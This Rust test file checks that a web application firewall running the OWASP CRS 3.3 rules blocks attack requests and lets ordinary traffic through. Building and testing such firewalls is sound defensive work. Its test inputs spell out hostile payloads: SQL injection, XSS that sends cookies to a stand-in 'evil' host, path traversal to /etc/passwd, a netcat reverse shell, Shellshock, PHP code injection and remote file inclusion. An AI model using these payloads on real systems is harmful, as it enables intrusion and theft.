//! The engine with Debian's OWASP CRS 3.3 (`apt-get install modsecurity-crs`) at paranoia
//! level 1: classic attacks are blocked, ordinary requests pass. Skips (with a note) when the
//! CRS is not installed.
use std::path::Path;
use std::sync::OnceLock;

use waf::config::WafConfig;
use waf::engine::{Engine, Verdict};
use waf::request::Transaction;

mod common;

const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const RULES: &str = "/usr/share/modsecurity-crs/rules";

fn engine() -> Option<&'static Engine> {
    static ENGINE: OnceLock<Option<Engine>> = OnceLock::new();
    ENGINE
        .get_or_init(|| {
            if !Path::new(SETUP).exists() || !Path::new(RULES).exists() {
                eprintln!(
                    "note: Debian's modsecurity-crs is not installed; skipping the real-CRS tests"
                );
                return None;
            }
            let cfg: WafConfig = serde_json::from_value(serde_json::json!({
                "include": [SETUP, format!("{RULES}/*.conf")],
                "paranoia_level": 1,
                "inbound_threshold": 5,
            }))
            .unwrap();
            let engine = cfg.build().unwrap();
            let r = &engine.rules().report;
            eprintln!(
                "CRS: {} rules loaded, {} skipped, {} response-phase rules not run",
                r.loaded,
                r.skipped.len(),
                r.response_phase
            );
            for s in &r.skipped {
                eprintln!("  skipped {s}");
            }
            for n in &r.notes {
                eprintln!("  note {n}");
            }
            Some(engine)
        })
        .as_ref()
}

/// A browser-like request (Host, User-Agent, Accept, Accept-Language, Content-Length).
fn request(
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: Option<&[u8]>,
) -> Transaction {
    let mut all = vec![
        ("host", "www.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.5"),
    ];
    for (n, v) in headers {
        all.retain(|(name, _)| name != n);
        all.push((n, v));
    }
    let length = body.map(|b| b.len().to_string());
    if let Some(len) = &length {
        all.push(("content-length", len));
    }
    common::req(method, target, &all, body)
}

fn check(t: Transaction) -> Option<Verdict> {
    let engine = engine()?;
    let what = format!(
        "{} {}{}",
        t.method,
        t.path,
        t.query
            .as_deref()
            .map(|q| format!("?{q}"))
            .unwrap_or_default()
    );
    let v = engine.evaluate(t);
    eprintln!(
        "{what}: score {} block {:?} rules {:?}",
        v.score,
        v.block,
        v.hits.iter().map(|h| h.id).collect::<Vec<_>>()
    );
    Some(v)
}

fn assert_blocked(t: Transaction) {
    if let Some(v) = check(t) {
        assert_eq!(v.block, Some(403), "{v:?}");
        assert!(v.score >= 5, "{v:?}");
    }
}

fn assert_passes(t: Transaction) {
    if let Some(v) = check(t) {
        assert_eq!(v.block, None, "{v:?}");
    }
}

#[test]
fn loads_the_crs_and_reports_what_it_skips() {
    let Some(engine) = engine() else { return };
    let r = &engine.rules().report;
    assert!(r.loaded > 250, "only {} rules loaded", r.loaded);
    assert!(
        r.skipped.len() < 30,
        "{} skipped: {:#?}",
        r.skipped.len(),
        r.skipped
    );
    assert!(r.response_phase > 0);
}

#[test]
fn blocks_sql_injection() {
    assert_blocked(request(
        "GET",
        "/products?id=1%27%20OR%20%271%27=%271",
        &[],
        None,
    ));
    assert_blocked(request(
        "GET",
        "/item?id=1+UNION+SELECT+username,password+FROM+users--",
        &[],
        None,
    ));
    assert_blocked(request(
        "POST",
        "/login",
        &[("content-type", "application/x-www-form-urlencoded")],
        Some(b"user=admin'--&pass=x"),
    ));
}

#[test]
fn blocks_xss() {
    assert_blocked(request(
        "GET",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        &[],
        None,
    ));
    assert_blocked(request(
        "GET",
        "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        &[],
        None,
    ));
    assert_blocked(request(
        "POST",
        "/api/comments",
        &[("content-type", "application/json")],
        Some(br#"{"comment":"<script>document.location='http://evil/?c='+document.cookie</script>"}"#),
    ));
}

#[test]
fn blocks_path_traversal_and_file_access() {
    assert_blocked(request(
        "GET",
        "/download?file=../../../../etc/passwd",
        &[],
        None,
    ));
    assert_blocked(request(
        "GET",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        &[],
        None,
    ));
    assert_blocked(request("GET", "/.env", &[], None));
}

#[test]
fn blocks_remote_command_execution() {
    assert_blocked(request(
        "GET",
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        &[],
        None,
    ));
    assert_blocked(request(
        "GET",
        "/run?cmd=%7C%20nc%20-e%20/bin/sh%2010.0.0.1%204444",
        &[],
        None,
    ));
    assert_blocked(request(
        "GET",
        "/x",
        &[("user-agent", "() { :; }; /bin/bash -c 'id'")],
        None,
    ));
}

#[test]
fn blocks_scanners() {
    assert_blocked(request(
        "GET",
        "/",
        &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        None,
    ));
    assert_blocked(request("GET", "/", &[("user-agent", "Nikto/2.1.6")], None));
}

#[test]
fn passes_ordinary_requests() {
    assert_passes(request("GET", "/", &[], None));
    assert_passes(request(
        "GET",
        "/search?q=red+shoes&page=2&sort=price_asc",
        &[],
        None,
    ));
    assert_passes(request(
        "GET",
        "/articles/2024/05/how-to-cook-pasta.html",
        &[("cookie", "session=3f2a9c1d8e7b; theme=dark; lang=en-US")],
        None,
    ));
    assert_passes(request(
        "POST",
        "/contact",
        &[("content-type", "application/x-www-form-urlencoded")],
        Some(b"name=Jane+Doe&email=jane%40example.com&message=Hello%2C+I+would+like+a+quote+for+100+units.+Thanks%21"),
    ));
    assert_passes(request(
        "POST",
        "/api/orders",
        &[("content-type", "application/json"), ("accept", "application/json")],
        Some(br#"{"customer":{"id":42,"name":"Jane Doe"},"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}"#),
    ));
    assert_passes(request(
        "POST",
        "/upload",
        &[("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")],
        Some(b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"),
    ));
    assert_passes(request("OPTIONS", "/api/users/42", &[], None));
}

#[test]
fn methods_outside_the_crs_default_policy_score() {
    // CRS 3.3's default `tx.allowed_methods` is "GET HEAD POST OPTIONS" (crs-setup.conf).
    if let Some(v) = check(request(
        "PUT",
        "/api/users/42",
        &[("content-type", "application/json")],
        Some(br#"{"email":"jane@example.com"}"#),
    )) {
        assert!(v.hits.iter().any(|h| h.id == 911100), "{v:?}");
    }
}

#[test]
fn passes_browser_like_traffic() {
    let browser: &[(&str, &str)] = &[
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("referer", "https://www.example.com/search?q=shoes&page=1"),
        (
            "sec-ch-ua",
            "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\"",
        ),
        ("sec-ch-ua-platform", "\"Windows\""),
        ("sec-fetch-mode", "navigate"),
        ("upgrade-insecure-requests", "1"),
        (
            "cookie",
            "_ga=GA1.2.1234567890.1700000000; __utma=1.2.3.4.5.6; cart=%7B%22items%22%3A3%7D; PHPSESSID=abcdef0123456789",
        ),
    ];
    for target in [
        "/index.php?page=about-us",
        "/products/shoes?color=red&size=10.5&brand=Nike%20Air",
        "/search?q=O%27Brien%27s+pub+%26+grill",
        "/wp-content/themes/x/style.css?ver=6.4.2",
        "/calendar?from=2024-01-01T00:00:00Z&to=2024-12-31",
        "/redirect?url=https%3A%2F%2Fwww.example.com%2Fhome",
        "/search?q=how+to+select+the+best+union+for+workers",
    ] {
        assert_passes(request("GET", target, browser, None));
    }
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for body in [
        &b"comment=I+think+it%27s+great%21+5%2F5+would+buy+again.&rating=5"[..],
        b"password=P%40ssw0rd%21%23%24&username=john_doe&email=john.doe%2Btag%40gmail.com",
    ] {
        assert_passes(request("POST", "/submit", &form, Some(body)));
    }
}

#[test]
fn blocks_more_attack_classes() {
    let form = ("content-type", "application/x-www-form-urlencoded");
    let cases: Vec<(&str, &str, Vec<(&str, &str)>, Option<&[u8]>, u32)> = vec![
        ("GET", "/?a=%0d%0aSet-Cookie:%20x=1", vec![], None, 921160),
        ("POST", "/x", vec![form], Some(b"code=%3C%3Fphp+system%28%27id%27%29%3B+%3F%3E"), 933100),
        (
            "POST",
            "/up",
            vec![("content-type", "multipart/form-data; boundary=b")],
            Some(b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--b--\r\n"),
            933110,
        ),
        ("GET", "/?x=http://evil.example/shell.txt?", vec![], None, 931120),
        ("GET", "/?q=1%20AND%20SLEEP(5)", vec![], None, 942160),
        ("GET", "/?q=javascript:alert(1)", vec![], None, 941170),
        ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index", vec![], None, 933140),
        ("GET", "/", vec![("content-length", "abc")], None, 920160),
        ("GET", "/?id=1%00", vec![], None, 920270),
        ("GET", "/?q=%uff1cscript%uff1e", vec![], None, 920260),
    ];
    for (method, target, headers, body, rule) in cases {
        let Some(v) = check(request(method, target, &headers, body)) else {
            return;
        };
        assert_eq!(v.block, Some(403), "{target}: {v:?}");
        assert!(
            v.hits.iter().any(|h| h.id == rule),
            "{target}: expected {rule}: {v:?}"
        );
    }
}
